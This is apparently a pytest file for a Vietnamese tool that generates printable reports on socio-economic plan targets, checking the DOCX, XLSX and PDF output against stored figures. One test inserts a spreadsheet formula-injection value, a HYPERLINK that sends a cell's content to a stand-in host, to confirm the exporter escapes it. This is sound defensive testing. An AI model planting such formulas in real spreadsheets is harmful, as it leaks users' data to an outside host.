"""The printed report (issue 12): each generated file is opened and its content checked against
the store's own figures and verdicts (reads.status_table), for the seed localities built from
data/ — a lower-is-better target, a range, a qualitative target, an exceed-assigned target, a
missing figure, illustrative figures, a conflict, a revision and the same period last year."""
from __future__ import annotations

import io
import os
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from chitieu.numbers import format_vn
from chitieu.report import build_report, render
from chitieu.status import STATUS_INFO
from chitieu.store import close_db, open_db, reads
from tests.conftest import copy_db, new_database

ROOT = Path(__file__).resolve().parent.parent
ARTIFACTS = ROOT / "tests" / "_artifacts"
DAY = date(2026, 12, 2)


def _docx(data: bytes):
    import docx
    return docx.Document(io.BytesIO(data))


def _biểu(doc):
    """The 9-column table of targets: {stt: [cells]}."""
    table = next(t for t in doc.tables if len(t.columns) == 9)
    rows = {}
    for r in table.rows[1:]:
        cells = [c.text for c in r.cells]
        if cells[0].isdigit():
            rows[int(cells[0])] = cells
    return table, rows


def _text(doc) -> str:
    return "\n".join(p.text for p in doc.paragraphs)


def _vn(v) -> str:
    f = round(float(v), 2 if abs(v) < 100 else 1)
    return format_vn(f)


@pytest.fixture(scope="module")
def con(bundled_db):
    c = open_db(bundled_db)
    yield c
    close_db(bundled_db)


def _store(con, name: str, year: int, period: str = "FY"):
    keys = {n: (s, c) for s, c, n in reads.localities(con, year)[["locality_scheme", "locality_code", "name"]]
            .itertuples(index=False, name=None)}
    return reads.status_table(con, year, period, locality=keys[name])


def test_docx_table_rows_are_the_stores_figures_and_verdicts(con):
    """Thành phố Quảng Ngãi 2022: every row of the biểu against status_table, in plan order."""
    store = _store(con, "Thành phố Quảng Ngãi", 2022)
    doc = _docx(render(build_report(con, "Thành phố Quảng Ngãi", 2022, "FY", issued=DAY), "docx"))
    table, rows = _biểu(doc)
    assert [c.text for c in table.rows[0].cells][:4] == ["STT", "Chỉ tiêu", "Đơn vị tính", "Kế hoạch năm 2022"]
    assert len(rows) == len(store)
    by_name = {}
    for r in store.itertuples(index=False):
        by_name.setdefault(r.name_vi + (f" ({r.scope})" if r.scope else ""), []).append(r)
    for stt, cells in rows.items():
        r = by_name[cells[1]].pop(0)
        assert cells[2] == (r.unit or "")
        info = STATUS_INFO[r.status]
        assert cells[8] == f"{info['icon']} {info['vi']}", cells
        if pd.isna(r.actual_period):
            assert cells[4] == "chưa có số liệu" and cells[6] == "–"
        else:
            assert cells[4].startswith(_vn(r.actual)), (cells, r.actual)
            assert cells[4].endswith("*") == bool(r.illustrative)
            flow_mid_year = r.kind == "flow" and r.actual_months < 12  # reports print actual / annual target
            expected = round(r.actual / r.value * 100, 1) if flow_mid_year else r.percent
            assert cells[6] == f"{format_vn(round(expected, 1), 1)}%", (cells, r.percent)
    # lower is better: poverty rate ≤ 1,19 %, 0,98 % is exceeded (mirror percent 117,6)
    poverty = next(c for c in rows.values() if c[1] == "Tỷ lệ hộ nghèo")
    assert poverty[3] == "≤ 1,19" and poverty[4] == "0,98 (chính thức) *" and poverty[8] == "★ Vượt"
    assert poverty[6] == "117,6%"
    text = _text(doc)
    assert "- Tỷ lệ hộ nghèo là 0,98% (chính thức, số minh họa), vượt chỉ tiêu (≤ 1,19%)." in text
    # a flow during the year (9 months, estimate) is reported as of 9 months and at risk
    inv = next(c for c in rows.values() if c[1] == "Tổng vốn đầu tư toàn xã hội")
    assert inv[4] == "4.100 (ước tính, 9 tháng) *" and inv[8] == "⚠ Có nguy cơ không đạt"
    assert inv[6] == "68,3%"  # 4.100 of the 6.000 planned for the year (91,1 % of the pace)
    assert ("- Tổng vốn đầu tư toàn xã hội lũy kế 9 tháng đạt 4.100 tỷ đồng (ước tính, số minh họa), bằng 68,3% "
            "kế hoạch năm (91,1% tiến độ cần đạt đến kỳ này), có nguy cơ không đạt chỉ tiêu > 6.000 tỷ đồng.") in text
    # the counts sentence is the store's counts
    counts = store["status"].value_counts()
    good = int(counts.get("met", 0) + counts.get("exceeded", 0))
    assert (f"Trong tổng số {len(store)} chỉ tiêu: {good} chỉ tiêu đạt và vượt ({int(counts.get('exceeded', 0))} "
            f"vượt, {int(counts.get('met', 0))} đạt)") in text
    assert f"{int(counts.get('no_data', 0))} chỉ tiêu chưa có số liệu" in text
    # the layout of the decree: header block, title, signature left blank
    header = doc.tables[0]
    assert "ỦY BAN NHÂN DÂN\nTHÀNH PHỐ QUẢNG NGÃI" in header.cell(0, 0).text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc" in header.cell(0, 1).text
    assert "Quảng Ngãi, ngày 02 tháng 12 năm 2026" in header.cell(0, 1).text
    assert "BÁO CÁO" in text and "Tình hình thực hiện các chỉ tiêu kế hoạch phát triển kinh tế - xã hội năm 2022" in text
    assert any("TM. ỦY BAN NHÂN DÂN\nCHỦ TỊCH" in t.cell(0, 1).text for t in doc.tables if len(t.columns) == 2)
    sec = doc.sections[0]
    assert round(sec.page_width.mm) == 210 and round(sec.page_height.mm) == 297
    assert round(sec.left_margin.mm) == 30 and round(sec.right_margin.mm) == 15 and round(sec.top_margin.mm) == 20
    assert doc.sections[1].orientation == 1  # the biểu is landscape


def test_sentence_for_a_target_behind_qualitative_and_missing(con):
    """Phường Quyết Thắng 2022: the issue's own example sentence, a qualitative target, no-data rows."""
    store = _store(con, "Phường Quyết Thắng", 2022)
    doc = _docx(render(build_report(con, "Phường Quyết Thắng", 2022, "FY"), "docx"))
    _, rows = _biểu(doc)
    text = _text(doc)
    bhyt = store[store["indicator"] == "health_insurance_coverage"].iloc[0]
    assert bhyt["status"] == "not_met"
    assert (f"Tỷ lệ bao phủ bảo hiểm y tế đạt {_vn(bhyt['actual'])}% (chính thức, số minh họa), bằng "
            f"{format_vn(bhyt['percent'], 1)}% kế hoạch, chưa đạt chỉ tiêu ≥ 95%.") in text
    assert "đạt 93,1%" in text and "bằng 98,0% kế hoạch" in text
    qual = next(c for c in rows.values() if c[1] == "Giữ vững ổn định chính trị, trật tự an toàn xã hội")
    assert qual[3] == "Đạt (định tính)" and qual[4] == "Đạt (chính thức) *" and qual[8] == "✔ Đạt"
    missing = store[store["status"] == "no_data"]
    if len(missing):  # the sample data may give every target a figure one day
        assert "CÁC CHỈ TIÊU CHƯA CÓ SỐ LIỆU" in text
        for name in missing["name_vi"]:
            assert name in text  # listed among the targets without data
    else:
        assert "CÁC CHỈ TIÊU CHƯA CÓ SỐ LIỆU" not in text
    assert "* Số minh họa" in text


def test_range_target_and_xlsx_read_back(con):
    """Huyện Ba Tơ 2021: a target-band range (share of agriculture 55–56 %) in the workbook."""
    import openpyxl
    store = _store(con, "Huyện Ba Tơ", 2021)
    data = render(build_report(con, "Huyện Ba Tơ", 2021, "FY"), "xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["Biểu"]
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows.replace("$", "") == "8:8"  # the heading row repeats on every page
    head = [c.value for c in ws[8]]
    assert head[0] == "STT" and head[-1] == "Đánh giá"
    body = [[c.value for c in row] for row in ws.iter_rows(min_row=9) if str(row[0].value or "").isdigit()]
    assert len(body) == len(store)
    share = next(r for r in body if r[1] == "Tỷ trọng nông nghiệp (nông, lâm, thủy sản) trong cơ cấu kinh tế")
    row = store[store["indicator"] == "share_agriculture"].iloc[0]
    assert share[3] == "từ 55 đến 56" and share[4] == "54,2 (chính thức) *"
    assert share[8] == f"{STATUS_INFO[row['status']]['icon']} {STATUS_INFO[row['status']]['vi']}"
    assert share[6] == f"{format_vn(row['percent'], 1)}%"
    assert "Báo cáo" in wb.sheetnames
    assert ws["A1"].value == "ỦY BAN NHÂN DÂN" and ws["A2"].value == "HUYỆN BA TƠ"


def test_xlsx_escapes_text_a_spreadsheet_would_run(con):
    report = build_report(con, "Huyện Ba Tơ", 2021, "FY")
    report.areas[0].lines[0].name_vi = '=HYPERLINK("http://x/?"&A1)'
    import openpyxl
    ws = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))["Biểu"]
    cells = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(v.startswith("'=") for v in cells)


def test_conflict_sentence(con):
    """Phú Quốc 2021: the year-to-date count of arrivals falls from 6 to 8 months: said, not hidden."""
    doc = _docx(render(build_report(con, "Thành phố Phú Quốc", 2021, "FY"), "docx"))
    text = _text(doc)
    assert "SỐ LIỆU ĐIỀU CHỈNH VÀ SỐ LIỆU CHÊNH LỆCH" in text
    assert "- Lượt khách du lịch: Số lũy kế từ đầu năm giảm từ kỳ H1 đến kỳ 8M (1,6071 → 1,6059)" in text
    _, rows = _biểu(doc)
    arrivals = next(c for c in rows.values() if c[1] == "Lượt khách du lịch")
    # the latest figure up to the full year is 11 months; 2020 has a full-year figure only
    assert arrivals[4] == "1,93 (chính thức, 11 tháng)" and arrivals[5] == "chưa có số liệu"
    # as of 6 months the fall (reported at 8 months) had not happened yet
    early = _text(_docx(render(build_report(con, "Thành phố Phú Quốc", 2021, "H1"), "docx")))
    assert "Số lũy kế từ đầu năm giảm" not in early


@pytest.fixture()
def revised_db(bundled_db, tmp_path):
    """A copy of the sample with an analyst's upload: the 9-month investment estimate replaced by
    the official figure (a revision) and the assigned budget figure entered (exceed-assigned)."""
    import openpyxl

    from loaders.actuals.excel_template import COLUMNS, DATA_SHEET, HEADER_ROW, template_bytes
    from loaders.actuals.upload import confirm, dry_run
    path = copy_db(bundled_db, tmp_path, "revised")
    c = open_db(path)
    wb = openpyxl.load_workbook(io.BytesIO(template_bytes(c, ["Thành phố Quảng Ngãi"], 2022)))
    ws = wb[DATA_SHEET]
    col = {name: i for i, (name, _, _) in enumerate(COLUMNS, start=1)}
    for r in range(HEADER_ROW + 1, ws.max_row + 1):
        code = ws.cell(r, col["Mã chỉ tiêu"]).value
        if code == "social_investment":
            ws.cell(r, col["Kỳ báo cáo"], "9 tháng")
            ws.cell(r, col["Số thực hiện"], 4300)
            ws.cell(r, col["Tình trạng số liệu"], "Chính thức")
        elif code == "budget_revenue":
            ws.cell(r, col["Kỳ báo cáo"], "9 tháng")
            ws.cell(r, col["Số thực hiện"], 9000)
            ws.cell(r, col["Số cấp trên giao"], 10000)
            ws.cell(r, col["Tình trạng số liệu"], "Ước tính")
    buf = io.BytesIO()
    wb.save(buf)
    preview = dry_run(c, buf.getvalue(), "so_lieu_9_thang.xlsx", "tester")
    assert preview.ok, preview.report("vi")
    confirm(c, preview, "tester")
    yield c
    close_db(path)


def test_revision_and_exceed_assigned(revised_db):
    con = revised_db
    store = _store(con, "Thành phố Quảng Ngãi", 2022, "9M")
    doc = _docx(render(build_report(con, "Thành phố Quảng Ngãi", 2022, "9M"), "docx"))
    text = _text(doc)
    assert "- Tổng vốn đầu tư toàn xã hội: Điều chỉnh: số chính thức thay số ước tính, 4.100 → 4.300 (+4,9%)" in text
    _, rows = _biểu(doc)
    budget = next(c for c in rows.values() if c[1] == "Thu ngân sách nhà nước trên địa bàn")
    b = store[store["indicator"] == "budget_revenue"].iloc[0]
    assert b["comparator"] == "exceed_assigned" and b["assigned_value"] == 10000
    assert budget[3] == "vượt mức cấp trên giao (10.000)" and budget[4] == "9.000 (ước tính)"
    assert budget[8] == f"{STATUS_INFO[b['status']]['icon']} {STATUS_INFO[b['status']]['vi']}"
    inv = next(c for c in rows.values() if c[1] == "Tổng vốn đầu tư toàn xã hội")
    assert inv[4] == "4.300 (chính thức)"  # the official figure judges the target now


def test_missing_figures_are_said_not_hidden(demo_db):
    """The demo set reports no tourist arrivals and no forest cover for test:QNG."""
    con = open_db(demo_db)
    try:
        store = reads.status_table(con, 2022, "FY", locality=("test", "QNG"))
        missing = store[store["status"] == "no_data"]
        assert {"tourist_arrivals", "forest_cover"} <= set(missing["indicator"])
        doc = _docx(render(build_report(con, "test:QNG", 2022, "FY"), "docx"))
        _, rows = _biểu(doc)
        arrivals = next(c for c in rows.values() if c[1] == "Lượt khách du lịch")
        assert arrivals[4] == "chưa có số liệu" and arrivals[6] == "–" and arrivals[8] == "○ Chưa có số liệu"
        text = _text(doc)
        assert f"{len(missing)} chỉ tiêu chưa có số liệu" in text
        assert "V. CÁC CHỈ TIÊU CHƯA CÓ SỐ LIỆU" in text and "Lượt khách du lịch" in text
    finally:
        close_db(demo_db)


def test_same_period_last_year(demo_db):
    """The demo set has full-year figures for 2022 and 2023: 2023 shows 2022 and the change."""
    con = open_db(demo_db)
    try:
        doc = _docx(render(build_report(con, "test:QNG", 2023, "FY"), "docx"))
        _, rows = _biểu(doc)
        budget = next(c for c in rows.values() if c[1].startswith("Thu ngân sách"))
        assert budget[4] == "1.100 (chính thức)" and budget[5] == "1.100 (chính thức)" and budget[7] == "100,0%"
        text = _text(doc)
        assert "cùng kỳ năm 2022, bằng 100,0% (tăng 0,0%)" in text
        older = _text(_docx(render(build_report(con, "test:QNG", 2022, "FY"), "docx")))
        assert "Chưa có số liệu cùng kỳ năm 2021 để so sánh." in older
    finally:
        close_db(demo_db)


def test_rollup_of_a_province_over_its_units(con):
    """Tỉnh Quảng Ngãi has no plan of its own in 2022: the report is its units' roll-up."""
    report = build_report(con, "Tỉnh Quảng Ngãi", 2022, "FY")
    assert report.rollup is not None and not report.lines
    store = _store(con, "Thành phố Quảng Ngãi", 2022)
    unit = next(u for u in report.rollup.units if u.name == "Thành phố Quảng Ngãi")
    assert unit.targets == len(store)
    assert unit.counts["not_met"] == int((store["status"] == "not_met").sum())
    doc = _docx(render(report, "docx"))
    text = _text(doc)
    assert "TỔNG HỢP CÁC ĐƠN VỊ TRỰC THUỘC" in text and "Các đơn vị có nhiều chỉ tiêu chậm nhất:" in text
    table = next(t for t in doc.tables if t.rows[0].cells[1].text == "Đơn vị")
    row = next(r for r in table.rows if r.cells[1].text == "Thành phố Quảng Ngãi")
    assert row.cells[2].text == str(len(store))


def test_english_report(con):
    doc = _docx(render(build_report(con, "Phường Quyết Thắng", 2022, "FY"), "docx", lang="en"))
    text = _text(doc)
    assert "Health insurance coverage reached 93.1% (official, illustrative figure), 98.0% of plan; the target " \
           "is not met (≥ 95%)." in text
    assert "SOCIALIST REPUBLIC OF VIETNAM" in doc.tables[0].cell(0, 1).text


def _pdftoppm() -> str:
    exe = shutil.which("pdftoppm")
    if exe is None and hasattr(os, "geteuid") and os.geteuid() == 0 and shutil.which("apt-get"):
        env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
        subprocess.run(["apt-get", "install", "-y", "-q", "poppler-utils"], env=env, check=False,
                       capture_output=True)
        if shutil.which("pdftoppm") is None:
            subprocess.run(["apt-get", "update", "-q"], env=env, check=False, capture_output=True)
            subprocess.run(["apt-get", "install", "-y", "-q", "poppler-utils"], env=env, check=False,
                           capture_output=True)
        exe = shutil.which("pdftoppm")
    if exe is None:
        if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
            pytest.fail("CI: pdftoppm (poppler-utils) is missing and could not be installed")
        pytest.skip("pdftoppm missing: apt-get install poppler-utils")
    return exe


def test_pdf_text_and_rendered_pages(con, tmp_path):
    from pypdf import PdfReader
    data = render(build_report(con, "Phường Quyết Thắng", 2022, "FY", issued=DAY), "pdf")
    reader = PdfReader(io.BytesIO(data))
    page1 = reader.pages[0]
    assert (round(float(page1.mediabox.width)), round(float(page1.mediabox.height))) == (595, 842)  # A4
    text = " ".join(" ".join(p.extract_text() for p in reader.pages).split())  # lines wrap anywhere
    for needle in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "PHƯỜNG QUYẾT THẮNG",
                   "Quyết Thắng, ngày 02 tháng 12 năm 2026", "BÁO CÁO",
                   "Tỷ lệ bao phủ bảo hiểm y tế đạt 93,1% (chính thức, số minh họa), bằng 98,0% kế hoạch, "
                   "chưa đạt chỉ tiêu ≥ 95%.", "BIỂU TỔNG HỢP CÁC CHỈ TIÊU", "TM. ỦY BAN NHÂN DÂN",
                   "Giữ vững ổn định chính trị, trật tự an toàn xã hội", "✘ Chưa đạt", "✔ Đạt"):
        assert needle in text, needle
    fonts = {str(f.get("/BaseFont")) for p in reader.pages for f in
             (p["/Resources"]["/Font"].get_object().values() if "/Font" in p["/Resources"] else [])
             for f in [f.get_object()]}
    assert any("LiberationSerif" in f for f in fonts), fonts
    pdf = tmp_path / "bao_cao.pdf"
    pdf.write_bytes(data)
    subprocess.run([_pdftoppm(), "-r", "70", "-png", str(pdf), str(tmp_path / "page")], check=True)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) == len(reader.pages) >= 2
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for p in pages:
        shutil.copy(p, ARTIFACTS / f"report_{p.name}")
        assert p.stat().st_size > 10_000  # a page with text on it, not a blank one


def test_cli_writes_each_format_and_refuses_bad_input(bundled_db, tmp_path, capsys):
    from loaders.cli import main
    for fmt in ("docx", "xlsx", "pdf"):
        out = tmp_path / f"bc.{fmt}"
        assert main(["report", "--db", str(bundled_db), "--locality", "Thành phố Quảng Ngãi", "--year", "2022",
                     "--period", "9 tháng", "--format", fmt, "-o", str(out)]) == 0
        assert out.stat().st_size > 1000
    assert main(["report", "--db", str(bundled_db), "--locality", "Không Có", "--year", "2022",
                 "-o", str(tmp_path / "x.pdf")]) != 0
    err = capsys.readouterr().err
    assert 'Lỗi: Không tìm thấy địa phương "Không Có"' in err and "Error:" in err
    assert err.index("Lỗi:") < err.index("Error:")
    assert main(["report", "--db", str(bundled_db), "--locality", "Huyện Ba Tơ", "--year", "2022",
                 "-o", str(tmp_path / "x.pdf")]) != 0
    assert "chưa có kế hoạch năm 2022" in capsys.readouterr().err
    assert main(["report", "--db", str(bundled_db), "--locality", "Huyện Ba Tơ", "--year", "2021",
                 "-o", str(tmp_path / "x.odt")]) != 0
    assert 'Định dạng "odt" không hợp lệ' in capsys.readouterr().err
    assert not (tmp_path / "x.pdf").exists() and not (tmp_path / "x.odt").exists()


@pytest.fixture(scope="module")
def province_db(tmp_path_factory):
    """A post-reform province (synthetic, gso_2025:51) with its communes' plans and figures."""
    from loaders.cli import main
    path = new_database(tmp_path_factory.mktemp("prov"), "prov")
    assert main(["synth", "--scale", "province", "--province", "51", "--years", "2026", "--db", str(path)]) == 0
    close_db(path)
    c = open_db(path)
    yield c
    close_db(path)


def test_rollup_of_a_post_reform_province_over_its_communes(province_db):
    import openpyxl
    con = province_db
    report = build_report(con, "gso_2025:51", 2026, "9M", rollup=True)
    units = report.rollup.units
    communes = reads.localities(con, 2026)
    communes = communes[communes["level"] == "commune"]
    assert {u.key for u in units} == set(communes["key"])
    # each unit's counts are the store's verdicts for that commune alone
    for u in units[:5]:
        scheme, code = u.key.split(":")
        store = reads.status_table(con, 2026, "9M", locality=(scheme, code))
        assert u.targets == len(store)
        assert u.counts == {s: int((store["status"] == s).sum()) for s in u.counts}
    share = [(u.counts["not_met"] + u.counts["at_risk"]) / u.targets for u in report.rollup.most_behind]
    everyone = max((u.counts["not_met"] + u.counts["at_risk"]) / u.targets for u in units)
    assert share == sorted(share, reverse=True) and share[0] == everyone
    assert sum(report.rollup.counts.values()) == sum(u.targets for u in units)
    wb = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))
    ws = wb["Đơn vị"]
    names = [r[1].value for r in ws.iter_rows(min_row=9) if str(r[0].value or "").isdigit()]
    assert names == [u.name for u in units]
    assert ws.page_setup.orientation == "landscape"
    doc = _docx(render(report, "docx"))
    assert "Dữ liệu giả lập" in _text(doc)  # synthetic figures say so


def _page(db, monkeypatch, loc: str, year: int):
    from tests.test_pages import app
    return app(db, monkeypatch, "views/locality.py", query={"year": str(year), "loc": loc})


def test_locality_page_offers_the_report_in_both_languages(bundled_db, monkeypatch):
    at = _page(bundled_db, monkeypatch, "gso_pre2025:522", 2022)
    assert "Báo cáo để in (Word, Excel, PDF)" in [e.label for e in at.expander]
    fmt = at.radio(key="report_format")
    assert fmt.label == "Định dạng" and fmt.value == "pdf"
    assert [b.proto.label for b in at.get("download_button")] == ["Tải báo cáo"]
    assert not at.checkbox  # Thành phố Quảng Ngãi has no unit with a plan for 2022: no roll-up offered
    at.sidebar.selectbox(key="lang").set_value("en").run()
    assert "Printable report (Word, Excel, PDF)" in [e.label for e in at.expander]
    assert [b.proto.label for b in at.get("download_button")] == ["Download the report"]
    assert at.selectbox(key="report_period").label == "Reporting period"


def test_locality_page_offers_the_rollup_for_a_province(province_db, monkeypatch):
    at = _page(province_db.path, monkeypatch, "gso_2025:51", 2026)
    box = at.checkbox(key="report_rollup")
    assert box.label == "Kèm tổng hợp các đơn vị trực thuộc"
    box.check().run()
    assert not at.exception
    assert [b.proto.label for b in at.get("download_button")] == ["Tải báo cáo"]
